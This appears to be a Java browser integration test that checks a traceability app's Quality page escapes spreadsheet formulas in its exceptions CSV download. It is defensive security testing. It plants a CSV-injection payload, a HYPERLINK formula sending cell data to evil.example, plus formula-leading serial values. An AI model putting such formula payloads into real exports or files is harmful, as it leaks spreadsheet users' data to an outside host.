package org.unitrace.core.dashboard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.unitrace.core.support.Bodies.bomLine;

import com.fasterxml.jackson.databind.JsonNode;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.unitrace.core.imports.Csv;
import org.unitrace.core.support.Bodies;
import org.unitrace.core.support.Chromium;
import org.unitrace.core.support.CoreITSupport;
import org.unitrace.core.support.TestEvents;
import org.unitrace.core.support.TestServers;

/**
 * CSV formula neutralising, in the browser: the Quality page builds the exceptions CSV itself, and
 * a part number that is a formula (bound on the line, flagged as a wrong part) comes out of that
 * file neutralised, as from the server's exports. The file is read back from the page's own
 * download link in the system's headless Chromium.
 */
class ExceptionsCsvBrowserIT extends CoreITSupport {

  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")";

  @AutoClose("quit")
  private static final ChromeDriver browser = Chromium.start();

  @LocalServerPort int port;

  @Test
  void aFormulaInAFlaggedPartComesOutOfTheBrowsersCsvNeutralised() {
    String p = TestServers.unique("X");
    String product = p + "-CTRL";
    String unit = "-" + p + "-U1";
    String component = "+" + p + "-F1";
    ResponseEntity<JsonNode> bom =
        put(
            "/api/products/" + product + "/revisions/A",
            Bodies.bom(bomLine("P1", "PCB-12", "SERIAL")));
    assertThat(bom.getStatusCode()).as(String.valueOf(bom.getBody())).isEqualTo(HttpStatus.OK);
    TestEvents events = new TestEvents(SITE, p, "edge-" + p);
    postStored(
        List.of(
            events.serialized(unit, product, "=1+2"),
            events.boundSerial(unit, HYPERLINK, component)));
    assertThat(http.getForObject("/api/exceptions?kind=WRONG_PART&serial=" + unit, JsonNode.class))
        .hasSize(1);

    WebDriverWait await = new WebDriverWait(browser, Duration.ofSeconds(30));
    browser.get(url("/ui/quality.html#exceptions"));
    await.until(ExpectedConditions.urlContains("/login"));
    browser.findElement(By.id("username")).sendKeys(OPERATOR);
    browser.findElement(By.id("password")).sendKeys(OPERATOR_PASSWORD);
    browser.findElement(By.id("login")).click();
    await.until(ExpectedConditions.urlContains("/ui/quality.html"));
    browser.get(url("/ui/quality.html#exceptions"));
    await.until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("#exc-csv a")));
    String file =
        (String)
            browser.executeAsyncScript(
                "const done = arguments[arguments.length - 1];"
                    + "fetch(document.querySelector('#exc-csv a').href)"
                    + ".then((r) => r.text()).then(done, (e) => done('failed: ' + e));");

    List<Csv.Row> rows = Csv.parse(file, List.of("id", "serial", "componentPart"));
    Csv.Row flagged =
        rows.stream()
            .filter(r -> ("'" + unit).equals(r.fields().get("serial")))
            .findFirst()
            .orElseThrow(() -> new AssertionError("no row for " + unit + " in\n" + file));
    assertThat(flagged.fields())
        .containsEntry("kind", "WRONG_PART")
        .containsEntry("componentPart", "'" + HYPERLINK)
        .containsEntry("componentSerial", "'" + component);
    assertThat(flagged.fields().get("id")).matches("\\d+"); // a number, written as one
    List<String> cells = new ArrayList<>(rows.get(0).fields().keySet());
    rows.forEach(r -> cells.addAll(r.fields().values()));
    assertThat(cells)
        .noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0)
        .as("no cell of the exceptions CSV starts a formula");
    assertThat(Chromium.scriptErrors(browser)).as("errors in the browser console").isEmpty();
    Chromium.shoot(browser, "quality-exceptions-formula");
  }

  private String url(String path) {
    return "http://localhost:" + port + path;
  }
}
